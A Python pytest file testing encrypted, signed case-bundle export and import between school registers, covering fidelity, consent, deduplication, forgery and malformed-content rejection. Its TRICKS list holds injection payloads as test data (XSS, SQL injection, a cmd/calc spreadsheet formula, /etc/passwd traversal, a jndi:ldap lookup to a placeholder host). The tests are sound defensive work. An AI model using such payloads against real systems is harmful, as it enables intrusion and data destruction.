"""A kasus on its way to another register: what arrives is what was sent, thought through again; all else is refused."""

import json
import random
from collections.abc import Callable
from copy import deepcopy
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest

from kasus_rules.alur import peristiwa as p
from kasus_rules.errors import InputError, KasusError
from kasus_rules.register import paket, paket_isi
from kasus_rules.register.kunci import DataKey
from kasus_rules.register.paket import PackageBroken, PackageForged, WrongPackagePassphrase
from kasus_rules.register.paket_isi import PackageContent
from kasus_rules.register.paket_json import strict
from kasus_rules.register.paket_pegangan import AlreadyHere
from kasus_rules.register.store import Register
from kasus_rules.services import paket as services
from kasus_rules.services.assess import Asisten
from kasus_rules.services.contoh_kasus import isi_contoh
from kasus_rules.services.paket import ReplayDiffers
from tests.unit.register.samples import CHEAP

SANDI = "kata sandi paket ini"
TODAY = date(2026, 11, 24)
OFFICER = "Petugas Contoh"
OWN, OTHER = DataKey("1" * 64), DataKey("2" * 64)


@pytest.fixture(scope="module")
def asisten() -> Asisten:
    return Asisten.siapkan()


@pytest.fixture(scope="module")
def sender(asisten: Asisten) -> Register:
    register = Register.di_memori()
    isi_contoh(register, asisten, TODAY)
    return register


@pytest.fixture
def receiver() -> Register:
    return Register.di_memori()


@pytest.fixture(scope="module")
def untouched() -> Register:
    """A register into which nothing may come."""
    return Register.di_memori()


@pytest.fixture(scope="module")
def codes(sender: Register) -> dict[str, str]:
    """A fictional kasus for each step that one of them has reached."""
    return {one.langkah.value: one.kode for one in sender.list_kasus()}


def bundle(sender: Register, kode: str, **changes: Any) -> bytes:
    values: dict[str, Any] = {"petugas": OFFICER, "sandi": SANDI, "cost": CHEAP} | changes
    return services.ekspor(sender, OWN, kode, **values).berkas


def take(receiver: Register, data: bytes, asisten: Asisten, *, key: DataKey = OTHER) -> str:
    return services.impor(receiver, key, services.periksa(data, SANDI, asisten), petugas="Guru Penerima")


@pytest.fixture
def content(sender, codes) -> dict[str, Any]:
    """The content of a bundle of a closed kasus, to be altered and signed by somebody who may."""
    return paket.buka(bundle(sender, codes["ditutup"]), SANDI).isi  # type: ignore[return-value]


def signed(content: object) -> bytes:
    return paket.tutup(content, OWN, SANDI, cost=CHEAP)  # type: ignore[arg-type]


# ── what arrives is what was sent ──


def test_a_kasus_of_every_step_arrives_with_the_same_events_and_state(sender, asisten, codes):
    for step, kode in codes.items():
        receiver = Register.di_memori()
        new = take(receiver, bundle(sender, kode), asisten)
        there, here = sender.buka_kasus(kode, pelaku=OFFICER), receiver.buka_kasus(new, pelaku=OFFICER)
        sent = [(one.nomor, one.petugas, one.tanggal, one.isi) for one in there.peristiwa]
        assert [(one.nomor, one.petugas, one.tanggal, one.isi) for one in here.peristiwa[:-1]] == sent, step
        assert here.keadaan.langkah is there.keadaan.langkah


def test_the_decision_arrives_with_its_answers_and_its_result(sender, receiver, asisten, codes):
    new = take(receiver, bundle(sender, codes["ditutup"]), asisten)
    there, here = (register.load_keputusan(kode)[0].keputusan for register, kode in
                   ((sender, codes["ditutup"]), (receiver, new)))  # fmt: skip
    assert (here.jawaban, here.hasil, here.petugas) == (there.jawaban, there.hasil, there.petugas)


def test_an_imported_kasus_says_where_it_came_from(sender, receiver, asisten, codes):
    new = take(receiver, bundle(sender, codes["pantau"]), asisten)
    note = receiver.buka_kasus(new, pelaku=OFFICER).peristiwa[-1]
    assert isinstance(note.isi, p.Catatan)
    assert (codes["pantau"] in note.isi.teks, note.petugas) == (True, "Guru Penerima")


def test_a_bundle_from_before_consent_had_a_purpose_speaks_of_the_conference(content, asisten, receiver):
    consents = [one["isi"] for one in content["peristiwa"] if one["jenis"] == "persetujuan_dicatat"]
    assert [set(one) for one in consents] == [{"dari", "jawaban", "cara", "cakupan"}] * 2  # as it was written then
    arrived = receiver.buka_kasus(take(receiver, signed(content), asisten), pelaku=OFFICER).keadaan.persetujuan
    assert {one.tujuan for one in arrived} == {"konferensi"}


def test_a_consent_to_research_arrives_as_such(sender, receiver, asisten):
    source = Register.di_memori()
    kode = take(source, bundle(sender, next(one.kode for one in sender.list_kasus() if one.langkah.value == "layanan")),
                asisten)  # fmt: skip
    said = p.PersetujuanDicatat("murid", "menolak", tujuan="penelitian")
    source.catat(kode, said, petugas=OFFICER, tanggal=TODAY)
    arrived = receiver.buka_kasus(take(receiver, bundle(source, kode), asisten), pelaku=OFFICER).keadaan
    assert arrived.persetujuan_kini("murid", "penelitian") == said


def test_names_stay_behind_unless_they_are_asked_for(sender, receiver, asisten, codes):
    data = bundle(sender, codes["ditutup"])
    assert "Wali Kelas Contoh" not in json.dumps(paket.buka(data, SANDI).isi)
    assert receiver.buka_kasus(take(receiver, data, asisten), pelaku=OFFICER).identitas is None


def test_names_that_were_asked_for_arrive(sender, receiver, asisten, codes):
    new = take(receiver, bundle(sender, codes["ditutup"], identitas=True), asisten)
    there, here = (register.buka_kasus(kode, pelaku=OFFICER).identitas for register, kode in
                   ((sender, codes["ditutup"]), (receiver, new)))  # fmt: skip
    assert here.orang == there.orang


def test_who_told_something_never_leaves_the_register(sender, asisten, codes):
    kasus = sender.buka_kasus(codes["pantau"], pelaku=OFFICER)
    fact = next(iter(kasus.keputusan[0].keputusan.jawaban))
    register = Register.di_memori()
    told = replace(
        kasus.keputusan[0].keputusan, kode_kasus=None,
        bukti={fact: {"asal": "diceritakan", "oleh": "Bu Rahasiawati", "kapan": None}},
    )  # fmt: skip
    kode = register.record_keputusan(told).kode_kasus
    assert "Rahasiawati" not in json.dumps(paket.buka(bundle(register, kode, identitas=True), SANDI).isi)


def test_the_file_itself_shows_no_word_of_the_kasus(sender, codes):
    data = bundle(sender, codes["ditutup"], identitas=True)
    assert [word for word in (b"Contoh", b"konferensi", codes["ditutup"].encode()) if word in data] == []


def test_the_same_rules_bring_the_same_outcome_again(sender, asisten, codes):
    coming = services.periksa(bundle(sender, codes["ditutup"]), SANDI, asisten)
    assert [(one.tercatat, one.kini, one.aturan_sama) for one in coming.ulangan] == [("konferensi", "konferensi", True)]


def test_other_rules_are_told_with_both_outcomes(content, asisten):
    content["keputusan"][0]["sidik_aturan"] = "aturan lama"
    coming = services.periksa(signed(content), SANDI, asisten)
    assert [(one.tercatat, one.kini, one.aturan_sama) for one in coming.ulangan] == [
        ("konferensi", "konferensi", False)
    ]


def test_answers_that_the_rules_here_cannot_read_are_told_and_kept(content, asisten):
    content["keputusan"][0]["sidik_aturan"] = "aturan lama"
    content["keputusan"][0]["jawaban"]["fakta_dari_kelak"] = "ya"
    assert services.periksa(signed(content), SANDI, asisten).ulangan[0].kini is None


def test_an_export_is_noted_in_the_chain_with_its_code(sender, codes):
    bundle(sender, codes["pantau"])
    assert sender.catatan_akses(codes["pantau"])[-1].tindakan == "ekspor_paket"


def test_an_import_is_noted_by_the_importer_and_leaves_the_chain_whole(sender, receiver, asisten, codes):
    new = take(receiver, bundle(sender, codes["ditutup"]), asisten)
    assert {one.pelaku for one in receiver.catatan_akses(new)} == {"Guru Penerima"}
    assert receiver.periksa_rantai().cacat is None


def test_missing_consent_is_told_when_a_kasus_is_exported(sender, codes):
    made = services.ekspor(sender, OWN, codes["dilaporkan"], petugas=OFFICER, sandi=SANDI, cost=CHEAP)
    assert "orang tua" in made.tanpa_persetujuan


def test_with_consent_nothing_is_missing(sender, codes):
    made = services.ekspor(sender, OWN, codes["ditutup"], petugas=OFFICER, sandi=SANDI, cost=CHEAP)
    assert made.tanpa_persetujuan == ""


# ── nothing is doubled ──


def test_a_bundle_taken_in_twice_is_there_once(sender, receiver, asisten, codes):
    new = take(receiver, bundle(sender, codes["pantau"]), asisten)
    with pytest.raises(AlreadyHere) as refused:
        take(receiver, bundle(sender, codes["pantau"]), asisten)
    assert (refused.value.kode, len(receiver.list_kasus())) == (new, 1)


def test_a_bundle_brought_back_to_its_own_register_adds_nothing(sender, asisten, codes):
    before = len(sender.list_kasus())
    with pytest.raises(AlreadyHere) as refused:
        take(sender, bundle(sender, codes["pantau"]), asisten, key=OWN)
    assert (refused.value.kode, len(sender.list_kasus())) == (codes["pantau"], before)


def test_a_kasus_that_comes_home_over_another_register_adds_nothing(sender, receiver, asisten, codes):
    new = take(receiver, bundle(sender, codes["pantau"]), asisten)
    onward = services.ekspor(receiver, OTHER, new, petugas=OFFICER, sandi=SANDI, cost=CHEAP).berkas
    with pytest.raises(AlreadyHere) as refused:
        take(sender, onward, asisten, key=OWN)
    assert refused.value.kode == codes["pantau"]


def test_a_third_register_takes_it_once_whichever_way_it_comes(sender, receiver, asisten, codes):
    third = Register.di_memori()
    new = take(receiver, bundle(sender, codes["pantau"]), asisten)
    onward = services.ekspor(receiver, OTHER, new, petugas=OFFICER, sandi=SANDI, cost=CHEAP).berkas
    take(third, onward, asisten, key=DataKey("3" * 64))
    with pytest.raises(AlreadyHere):
        take(third, bundle(sender, codes["pantau"]), asisten, key=DataKey("3" * 64))


def test_two_kasus_with_the_same_code_in_two_registers_are_two(sender, receiver, asisten, codes):
    take(receiver, bundle(sender, codes["pantau"]), asisten)
    other = services.ekspor(sender, DataKey("4" * 64), codes["pantau"], petugas=OFFICER, sandi=SANDI, cost=CHEAP)
    take(receiver, other.berkas, asisten)
    assert len(receiver.list_kasus()) == 2


# ── imported text is text ──

TRICKS = [
    "<script>alert(1)</script>", "{{ 7*7 }}{% for x in y %}", '=HYPERLINK("http://contoh.invalid")',
    "+cmd|' /C calc'!A0", "../../etc/passwd", "C:\\Windows\\system32", "'; DROP TABLE kasus; --",
    "${jndi:ldap://contoh.invalid}", "%s%n", "\u202etxt.exe",
]  # fmt: skip


@pytest.mark.parametrize("text", TRICKS)
def test_a_trick_in_a_note_arrives_as_the_text_it_is(text, content, receiver, asisten):
    content["peristiwa"].append(
        content["peristiwa"][-1] | {"nomor": len(content["peristiwa"]) + 1, "jenis": "catatan", "isi": {"teks": text}}
    )
    new = take(receiver, signed(content), asisten)
    assert receiver.buka_kasus(new, pelaku=OFFICER).peristiwa[-2].isi == p.Catatan(text)


@pytest.mark.parametrize("text", TRICKS)
def test_a_trick_in_a_name_arrives_as_the_text_it_is(text, content, receiver, asisten):
    content["orang"] = [
        dict.fromkeys(("kelas", "lembaga", "kontak", "catatan"), text) | {"peran": "murid", "nama": text}
    ]
    new = take(receiver, signed(content), asisten)
    assert receiver.buka_kasus(new, pelaku=OFFICER).identitas.nama("murid") == text


def test_a_document_of_a_bundle_never_leads_to_a_document_of_this_register(content, receiver, asisten):
    written = p.DokumenDibuat("S26-7Q4M", "laporan", "bk", "f" * 64, 1, "aturan")
    content["peristiwa"].insert(1, content["peristiwa"][0] | {
        "jenis": "dokumen_dibuat", "isi": paket_isi.to_json(written)})  # fmt: skip
    for at, one in enumerate(content["peristiwa"], start=1):
        one["nomor"] = at
    new = take(receiver, signed(content), asisten)
    assert receiver.buka_kasus(new, pelaku=OFFICER).peristiwa[1].isi.dokumen == "luar-S26-7Q4M"
    with pytest.raises(KasusError):
        receiver.muat_dokumen("luar-S26-7Q4M", pelaku=OFFICER)


# ── the container ──


def test_a_short_passphrase_makes_no_bundle(sender, codes):
    with pytest.raises(InputError, match="terlalu pendek"):
        bundle(sender, codes["pantau"], sandi="pendek")


def test_a_wrong_passphrase_opens_nothing(sender, codes):
    with pytest.raises(WrongPackagePassphrase):
        paket.buka(bundle(sender, codes["pantau"]), "bukan kata sandinya")


def test_a_passphrase_with_blanks_at_its_ends_still_opens(sender, codes):
    assert paket.buka(bundle(sender, codes["pantau"]), f" {SANDI} ").pengirim == paket.kunci_umum(OWN)


def test_another_register_has_another_fingerprint(sender, codes):
    made = services.ekspor(sender, OTHER, codes["pantau"], petugas=OFFICER, sandi=SANDI, cost=CHEAP)
    assert made.sidik != services.ekspor(sender, OWN, codes["pantau"], petugas=OFFICER, sandi=SANDI, cost=CHEAP).sidik


def test_a_fingerprint_typed_by_ear_is_recognised():
    shown = paket.sidik(paket.kunci_umum(OWN))
    assert paket.sama_sidik(shown.lower().replace("-", " ").replace("0", "o"), shown)


def test_a_fingerprint_with_one_sign_changed_is_not():
    shown = paket.sidik(paket.kunci_umum(OWN))
    assert not paket.sama_sidik(shown[:-1] + ("0" if shown[-1] != "0" else "2"), shown)


def resealed(change: Callable[[dict[str, Any]], object], content: dict[str, Any]) -> bytes:
    """A bundle whose signed envelope was changed by somebody who knows the passphrase but not the sender's key."""
    envelope: dict[str, Any] = {"isi": json.dumps(content), "kunci": paket.kunci_umum(OWN).hex()}
    envelope["tanda"] = paket._signer(OWN).sign(paket._to_sign(envelope["isi"])).hex()
    change(envelope)
    inner, nonce = b"k" * 32, b"n" * 12
    wrapped = paket.wrapping.wrap(inner, SANDI.encode(), header=paket._HEADER, cost=CHEAP)
    sealed = paket.AESGCM(inner).encrypt(nonce, json.dumps(envelope).encode(), paket._HEADER)
    return paket._written(wrapped.as_json(), nonce, sealed)


def other_text(envelope: dict[str, Any]) -> None:
    envelope["isi"] = envelope["isi"].replace("konferensi", "pantau", 1)


def other_signature(envelope: dict[str, Any]) -> None:
    envelope["tanda"] = paket._signer(OTHER).sign(paket._to_sign(envelope["isi"])).hex()


FORGED: dict[str, Callable[[dict[str, Any]], object]] = {
    "another text under the old signature": other_text,
    "the signature of another register": other_signature,
    "the key of another register": lambda one: one.update(kunci=paket.kunci_umum(OTHER).hex()),
    "a signature of nothing": lambda one: one.update(tanda="00" * 64),
    "a signature of another text": lambda one: one.update(tanda=paket._signer(OWN).sign(b"lain").hex()),
    "a signature cut short": lambda one: one.update(tanda=one["tanda"][:-2]),
    "a key of no curve": lambda one: one.update(kunci="ff" * 31),
    "a signature that is a number": lambda one: one.update(tanda=1),
    "no signature": lambda one: one.pop("tanda"),
    "a field too many": lambda one: one.update(lain="x"),
}


@pytest.mark.parametrize("name", FORGED)
def test_a_forged_envelope_is_refused(name, content):
    with pytest.raises((PackageForged, PackageBroken)):
        paket.buka(resealed(FORGED[name], content), SANDI)


def test_an_untouched_envelope_made_the_same_way_is_taken(content):
    assert paket.buka(resealed(lambda one: None, content), SANDI).isi == content


def test_a_byte_changed_anywhere_is_refused(sender, codes):
    data, dice = bundle(sender, codes["pantau"]), random.Random(4)
    for _ in range(200):
        changed = bytearray(data)
        changed[dice.randrange(len(data))] ^= 1 << dice.randrange(8)
        with pytest.raises(KasusError):
            paket.buka(bytes(changed), SANDI)


@pytest.mark.parametrize("share", [0.0, 0.01, 0.3, 0.7, 0.9999])
def test_a_bundle_cut_off_anywhere_is_refused(share, sender, codes):
    data = bundle(sender, codes["pantau"])
    with pytest.raises(PackageBroken):
        paket.buka(data[: int(len(data) * share)], SANDI)


def outer(data: bytes, **changes: object) -> bytes:
    return json.dumps(json.loads(data) | changes, indent=1).encode()


OUTER: dict[str, Callable[[dict[str, Any]], dict[str, object]]] = {
    "another format": lambda _: {"format": "kasus-kunci"},
    "a later version": lambda _: {"versi": 2},
    "a version that is a giant": lambda _: {"versi": 10**400},
    "a cost that would take all memory": lambda one: {"kunci": one["kunci"] | {"n": 2**40}},
    "a cost that would take all day": lambda one: {"kunci": one["kunci"] | {"n": 2**20, "r": 8, "p": 16}},
    "another way to derive the key": lambda one: {"kunci": one["kunci"] | {"turunan": "hkdf-sha256"}},
    "a content that is no base 64": lambda _: {"isi": "???"},
    "a content that is a list": lambda _: {"isi": []},
    "a nonce of another length": lambda _: {"nonce": "AAAA"},
    "a field too many": lambda _: {"lain": 1},
}


@pytest.mark.parametrize("name", OUTER)
def test_a_hostile_container_is_refused(name, sender, codes):
    data = bundle(sender, codes["pantau"])
    with pytest.raises(PackageBroken):
        paket.buka(outer(data, **OUTER[name](json.loads(data))), SANDI)


@pytest.mark.parametrize(
    "data", [b"", b"{}", b"[]", b"null", b"\xff\xfe", b"[" * 100_000, b"1" * 10_000, b"PK\x03\x04"]
)
def test_a_file_that_is_no_bundle_is_told_as_such(data):
    with pytest.raises(PackageBroken):
        paket.buka(data, SANDI)


def test_a_file_larger_than_any_bundle_is_not_read(tmp_path: Path):
    path = tmp_path / "besar"
    with path.open("wb") as stream:
        stream.truncate(paket.LARGEST + 2)
    with pytest.raises(InputError, match="terlalu besar"):
        services.baca_berkas(path)


def test_a_file_that_is_not_there_is_told_as_such(tmp_path: Path):
    with pytest.raises(InputError, match="tidak dapat dibaca"):
        services.baca_berkas(tmp_path / "hilang")


# ── JSON from strangers ──


@pytest.mark.parametrize(
    "text",
    [
        '{"a": 1, "a": 2}', '{"a": NaN}', '{"a": Infinity}', '{"a": -Infinity}', '{"a": 1e999}', '{"a": 1e300}',
        '{"a": 99999999999999999999}', '{"a": ' + "9" * 5000 + "}", "[" * 42 + "]" * 42, "[" * 100_000,
        '{"a": ' * 41 + "1" + "}" * 41, '{"a": "\\u0000"}', '{"a": "\\ud800"}', '{"a": "\\u001b[31m"}',
        '{"\\u0007": 1}', '{"a": "' + "x" * 60_001 + '"}', "{'a': 1}", '{"a": 1,}', "", "\ufeff{}",
    ],
)  # fmt: skip
def test_json_that_no_honest_writer_makes_is_refused(text):
    with pytest.raises(ValueError):  # whatever the reason, it becomes one sentence
        strict(text)


def test_honest_json_is_read_as_it_is():
    assert strict('{"a": [1, -2, 0.5, true, null, "é\\n"]}') == {"a": [1, -2, 0.5, True, None, "é\n"]}


# ── content signed by somebody who may sign, and still not what a kasus can be ──


def event(content: dict[str, Any], jenis: str) -> dict[str, Any]:
    return next(one for one in content["peristiwa"] if one["jenis"] == jenis)


def attendance(content: dict[str, Any]) -> dict[str, Any]:
    return event(content, "konferensi_ditutup")["isi"]["kehadiran"][0]


def without(content: dict[str, Any], jenis: str) -> None:
    content["peristiwa"] = [one for one in content["peristiwa"] if one["jenis"] != jenis]
    for at, one in enumerate(content["peristiwa"], start=1):
        one["nomor"] = at


def deep(levels: int) -> object:
    made: object = 1
    for _ in range(levels):
        made = [made]
    return made


CONTENT: dict[str, Callable[[dict[str, Any]], object]] = {
    "an unknown kind of event": lambda c: c["peristiwa"][1].update(jenis="hapus_semua"),
    "an event without its fields": lambda c: event(c, "laporan_disampaikan").update(isi={}),
    "an event with a field too many": lambda c: event(c, "laporan_disampaikan")["isi"].update(lain="x"),
    "an event with a number for a text": lambda c: event(c, "laporan_disampaikan")["isi"].update(kepada=7),
    "an event with a text for a number": lambda c: event(c, "konferensi_dibuka")["isi"].update(konferensi="1"),
    "an event with a yes for a number": lambda c: event(c, "konferensi_dibuka")["isi"].update(konferensi=True),
    "an event with an unknown choice": lambda c: event(c, "laporan_disampaikan")["isi"].update(cara="telepati"),
    "an event to an unknown role": lambda c: event(c, "laporan_disampaikan")["isi"].update(kepada="raja"),
    "a stand-in of an unknown role": lambda c: attendance(c).update(oleh="raja"),
    "a person of an unknown role": lambda c: c.update(
        orang=[{"peran": "raja", "nama": "x", "kelas": "", "lembaga": "", "kontak": "", "catatan": ""}]
    ),
    "a report left out before the participants": lambda c: without(c, "laporan_disampaikan"),
    "consent left out before the conference": lambda c: without(c, "persetujuan_dicatat"),
    "a conference closed before it was opened": lambda c: without(c, "konferensi_dibuka"),
    "events in another order": lambda c: c["peristiwa"].reverse(),
    "an event before the triage": lambda c: c["peristiwa"].insert(0, deepcopy(c["peristiwa"][1])),
    "numbers with a gap": lambda c: c["peristiwa"][-1].update(nomor=99),
    "a number twice": lambda c: c["peristiwa"][2].update(nomor=2),
    "a negative number": lambda c: c["peristiwa"][0].update(nomor=-1),
    "a giant number": lambda c: c["peristiwa"][0].update(nomor=10**14),
    "a correction of itself": lambda c: c["peristiwa"][2].update(mengoreksi=3),
    "a correction of the future": lambda c: c["peristiwa"][2].update(mengoreksi=9),
    "a correction of another kind": lambda c: c["peristiwa"][2].update(mengoreksi=1),
    "a date that is none": lambda c: c["peristiwa"][1].update(tanggal="2026-02-30"),
    "a date before all schools": lambda c: c["peristiwa"][1].update(tanggal="0001-01-01"),
    "a date beyond all time": lambda c: c["peristiwa"][1].update(tanggal="9999-12-31"),
    "a time without a zone": lambda c: c["peristiwa"][1].update(dicatat="2026-01-01T00:00:00"),
    "nobody who recorded": lambda c: c["peristiwa"][1].update(petugas="   "),
    "a name of a whole page": lambda c: c["peristiwa"][1].update(petugas="x" * 5000),
    "a code that is a path": lambda c: c.update(kode="../../kasus"),
    "a code that is HTML": lambda c: c.update(kode="<b>K26</b>"),
    "no events": lambda c: c.update(peristiwa=[]),
    "no decisions": lambda c: c.update(keputusan=[]),
    "a decision without its event": lambda c: c["keputusan"].append(deepcopy(c["keputusan"][0])),
    "events of more than one life": lambda c: c.update(peristiwa=c["peristiwa"] * 200),
    "a field too many": lambda c: c.update(perintah="import os"),
    "a field too few": lambda c: c.pop("dibuat"),
    "a decision that is a list": lambda c: c.update(keputusan=[[1, 2]]),
    "a decision that departs without a reason": lambda c: c["keputusan"][0].update(sikap="diubah"),
    "a decision of an unknown outcome": lambda c: (
        c["keputusan"][0].update(putusan_petugas="hukum", sikap="diubah", alasan_kode="x", alasan_teks="y"),
        c["peristiwa"][0]["isi"].update(putusan="hukum"),
    ),
    "a decision that its event contradicts": lambda c: c["peristiwa"][0]["isi"].update(putusan="pantau"),
    "answers that are no table": lambda c: c["keputusan"][0].update(jawaban=[]),
    "a result whose rows are no rows": lambda c: c["keputusan"][0]["hasil"].update(undangan=[1, "x"]),
    "a result with a role nobody knows": lambda c: c["keputusan"][0]["hasil"]["undangan"][0].update(pengganti=["raja"]),
    "a result with half a row": lambda c: c["keputusan"][0]["hasil"]["undangan"][0].pop("tahap"),
    "a result that is a text where a list must be": lambda c: c["keputusan"][0]["hasil"].update(langkah="lari"),
    "a later meeting that is a number": lambda c: c["keputusan"][0]["hasil"].update(sesudah_aman=7),
    "evidence of a kind nobody knows": lambda c: c["keputusan"][0].update(bukti={"bahaya_saat_ini": {"asal": "mimpi"}}),
    "evidence that is a text": lambda c: c["keputusan"][0].update(bukti={"bahaya_saat_ini": "<b>"}),
    "evidence of what was not answered": lambda c: c["keputusan"][0].update(bukti={"x": {"asal": "kabar"}}),
    "a result without an outcome": lambda c: c["keputusan"][0].update(hasil={}),
}  # fmt: skip


@pytest.mark.parametrize("name", CONTENT)
def test_content_that_cannot_be_a_kasus_is_refused_and_nothing_is_recorded(name, content, untouched, asisten):
    CONTENT[name](content)
    with pytest.raises(PackageContent):
        take(untouched, signed(content), asisten)
    assert untouched.list_kasus() == ()


@pytest.mark.parametrize("levels", [41, 400])
def test_content_nested_too_deep_is_refused(levels, content, asisten):
    content["keputusan"][0]["jawaban"]["x"] = deep(levels)
    with pytest.raises(PackageBroken):
        services.periksa(signed(content), SANDI, asisten)


@pytest.mark.parametrize("content", [None, 1, "teks", [], {}, {"kode": "K26-7Q4M"}])
def test_content_that_is_no_bundle_at_all_is_refused(content, asisten):
    with pytest.raises(PackageContent):
        services.periksa(signed(content), SANDI, asisten)


def other_result(c: dict[str, Any]) -> None:
    c["keputusan"][0]["hasil"]["undangan"] = []


def other_answers(c: dict[str, Any]) -> None:
    c["keputusan"][0]["jawaban"]["bahaya_saat_ini"] = "ya"


def lifted_ban(c: dict[str, Any]) -> None:
    rows = c["peristiwa"][0]["isi"]["undangan"]
    rows.append({"peran": "dewan_guru", "tahap": "internal", "pertemuan": "bersama", "tingkat": "wajib"})


def leader_unconcerned(c: dict[str, Any]) -> None:
    said = c["peristiwa"][0]["isi"]
    said["kepala_sekolah_terkait"] = "belum_diketahui" if said["kepala_sekolah_terkait"] == "tidak" else "tidak"


@pytest.mark.parametrize("change", [other_result, other_answers, lifted_ban, leader_unconcerned])
def test_under_the_same_rules_a_result_that_does_not_follow_is_refused(change, content, untouched, asisten):
    change(content)
    with pytest.raises((ReplayDiffers, PackageContent)):
        take(untouched, signed(content), asisten)
    assert untouched.list_kasus() == ()


@pytest.mark.parametrize("change", [lifted_ban, leader_unconcerned])
def test_under_other_rules_an_event_that_its_own_decision_contradicts_is_refused(change, content, asisten):
    content["keputusan"][0]["sidik_aturan"] = "aturan lama"
    change(content)
    with pytest.raises((ReplayDiffers, PackageContent)):
        services.periksa(signed(content), SANDI, asisten)


def test_no_refusal_repeats_what_the_bundle_holds(content, asisten):
    event(content, "laporan_disampaikan")["isi"] = {"kepada": {"kata": "tersembunyi"}}
    with pytest.raises(PackageContent) as refused:
        services.periksa(signed(content), SANDI, asisten)
    assert "tersembunyi" not in refused.value.pesan


def test_a_bundle_made_long_ago_still_says_when(sender, codes):
    kasus = sender.buka_kasus(codes["pantau"], pelaku=OFFICER)
    made = paket_isi.susun(kasus, waktu=datetime(2020, 1, 1, tzinfo=UTC), identitas=False)
    assert paket_isi.baca(paket_isi.tulis(made)).dibuat == datetime(2020, 1, 1, tzinfo=UTC)
